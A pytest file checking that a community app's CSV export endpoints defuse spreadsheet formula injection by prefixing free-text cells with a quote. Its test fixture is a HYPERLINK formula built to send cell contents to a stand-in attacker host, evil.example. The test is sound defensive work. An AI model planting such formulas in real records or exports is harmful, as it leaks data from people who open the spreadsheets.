"""Every CSV export of the node goes through the one writer that defuses formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest

from community_node.eligibility.models import EligibilityDecision, Outcome
from community_node.extensions import db
from community_node.matches.models import MatchStatus
from tests.community_node.factories import (
    ConnecteeFactory,
    ConnectorFactory,
    FollowUpOutcomeFactory,
    MatchFactory,
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _eligibility() -> None:
    db.session.add(
        EligibilityDecision(
            connectee_id=ConnecteeFactory().id,
            ruleset_version="v1",
            outcome=Outcome.ELIGIBLE,
            is_override=True,
            override_reason=FORMULA,
            decided_by="staff:1",
        )
    )
    db.session.commit()


# Each export with a free-text column, and a record whose text there is a formula.
EXPORTS: dict[str, tuple[str, str, Callable[[], Any]]] = {
    "connectees": (
        "/api/v1/connectees/export.csv",
        "last_name",
        lambda: ConnecteeFactory(last_name=FORMULA),
    ),
    "connectors": (
        "/api/v1/connectors/export.csv",
        "first_name",
        lambda: ConnectorFactory(first_name=FORMULA),
    ),
    "matches": (
        "/api/v1/matches/export.csv",
        "exit_reason",
        lambda: MatchFactory(status=MatchStatus.CLOSED, exit_reason=FORMULA),
    ),
    "outcomes": (
        "/api/v1/outcomes/export.csv",
        "recorded_by",
        lambda: FollowUpOutcomeFactory(recorded_by=FORMULA),
    ),
    "eligibility": ("/api/v1/eligibility-decisions/export.csv", "override_reason", _eligibility),
}


@pytest.mark.parametrize("name", EXPORTS)
def test_a_formula_in_a_record_is_exported_as_text(api: Any, name: str) -> None:
    url, column, make = EXPORTS[name]
    make()
    response = api.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [row[column] for row in rows] == ["'" + FORMULA]
